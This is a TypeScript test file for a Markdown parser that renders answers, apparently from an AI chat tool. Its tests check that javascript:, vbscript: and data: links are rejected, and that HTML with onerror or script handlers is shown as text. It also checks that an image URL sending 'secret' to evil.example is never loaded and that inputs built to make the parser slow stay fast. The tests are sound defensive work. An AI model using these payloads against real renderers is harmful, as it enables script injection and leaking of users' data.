import { describe, expect, it } from "vitest";
import { parseMarkdown } from "./markdown.ts";
import { parseInlines, safeAddress } from "./markdown-inline.ts";

const text = (words: string) => ({ kind: "text", text: words });
const paragraph = (words: string) => ({ kind: "paragraph", inlines: [text(words)] });

describe("Markdown of answers", () => {
  it("is paragraphs, headings and rules", () => {
    expect(parseMarkdown("# Sky\n\nIt is blue.\nOften.\n\n---\nEnd")).toEqual([
      { kind: "heading", level: 1, inlines: [text("Sky")] },
      paragraph("It is blue.\nOften."),
      { kind: "rule" },
      paragraph("End"),
    ]);
  });

  it("keeps code as it is, and shows code that is not closed yet", () => {
    expect(parseMarkdown("```ts\nconst a = *b*;\n\n  // c\n```\nx")).toEqual([
      { kind: "code", language: "ts", text: "const a = *b*;\n\n  // c" },
      paragraph("x"),
    ]);
    expect(parseMarkdown("See:\n```py\nprint(1)")).toEqual([
      paragraph("See:"),
      { kind: "code", language: "py", text: "print(1)" },
    ]);
  });

  it("nests lists, with paragraphs and code in their items", () => {
    const [list] = parseMarkdown("2. one\n   - a\n   - b\n\n3. two\n   ```\n   x\n   ```\n");
    expect(list).toEqual({
      kind: "list",
      isOrdered: true,
      start: 2,
      items: [
        [
          paragraph("one"),
          { kind: "list", isOrdered: false, start: 1, items: [[paragraph("a")], [paragraph("b")]] },
        ],
        [paragraph("two"), { kind: "code", language: "", text: "x" }],
      ],
    });
  });

  it("has tables with as many cells as their head", () => {
    expect(parseMarkdown("| a | b |\n|:-|-:|\n| 1 | 2 | 3 |\n| x \\| y |")).toEqual([
      {
        kind: "table",
        aligns: ["left", "right"],
        head: [[text("a")], [text("b")]],
        rows: [
          [[text("1")], [text("2")]],
          [[text("x | y")], []],
        ],
      },
    ]);
    expect(parseMarkdown("a | b\nno table")).toEqual([paragraph("a | b\nno table")]);
  });

  it("has quotes", () => {
    expect(parseMarkdown("> a\n> - b\nc")).toEqual([
      {
        kind: "quote",
        blocks: [paragraph("a"), { kind: "list", isOrdered: false, start: 1, items: [[paragraph("b")]] }],
      },
      paragraph("c"),
    ]);
  });

  it("reads marks within lines", () => {
    expect(parseInlines("a **b *c* d** `e*` ~~f~~ snake_case_name 2 * 3 * 4")).toEqual([
      text("a "),
      { kind: "strong", inlines: [text("b "), { kind: "emphasis", inlines: [text("c")] }, text(" d")] },
      text(" "),
      { kind: "code", text: "e*" },
      text(" "),
      { kind: "strike", inlines: [text("f")] },
      text(" snake_case_name 2 * 3 * 4"),
    ]);
    expect(parseInlines("\\*a\\* **open")).toEqual([text("*a* **open")]);
  });

  it("links to the web alone", () => {
    expect(parseInlines("[x](https://a.example/b) https://c.example/d.")).toEqual([
      { kind: "link", href: "https://a.example/b", inlines: [text("x")] },
      text(" "),
      { kind: "link", href: "https://c.example/d", inlines: [text("https://c.example/d")] },
      text("."),
    ]);
    for (const address of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:x",
      "//evil.example",
      "/v1/keys",
      "https://",
    ]) {
      expect(safeAddress(address)).toBeUndefined();
      expect(JSON.stringify(parseInlines(`[x](${address})`))).not.toContain('"link"');
    }
  });

  it("never loads an image that an answer names", () => {
    expect(parseInlines("![pixel](https://evil.example/?q=secret)")).toEqual([
      { kind: "link", href: "https://evil.example/?q=secret", inlines: [text("pixel")] },
    ]);
  });

  it("takes HTML for text", () => {
    const hostile = '<img src=x onerror="alert(1)"> <script>alert(2)</script>';
    expect(parseMarkdown(hostile)).toEqual([paragraph(hostile)]);
  });

  it("takes no longer for text that is made to be slow", () => {
    const hostile = [
      "*a ".repeat(30_000),
      "**a _b ~~c `d [e](".repeat(5_000),
      "> ".repeat(20_000),
      `${"- ".repeat(3_000)}x`,
      "|".repeat(50_000),
      `${"a|".repeat(20_000)}\n${"-|".repeat(20_000)}`,
      "```".repeat(20_000),
      "[".repeat(50_000),
      "#".repeat(50_000),
      " ".repeat(50_000),
      "\\".repeat(50_000),
      "1. a\n".repeat(10_000),
      "[a](https://a.example/ ".repeat(5_000),
    ];
    const begun = performance.now();
    for (const words of hostile) parseMarkdown(words);
    expect(performance.now() - begun).toBeLessThan(3_000);
  });

  it("shows every letter of a text without marks", () => {
    const words = "Grüße, 漢字 🎉 & <b> \u0000 end";
    expect(parseInlines(words)).toEqual([text(words)]);
  });
});
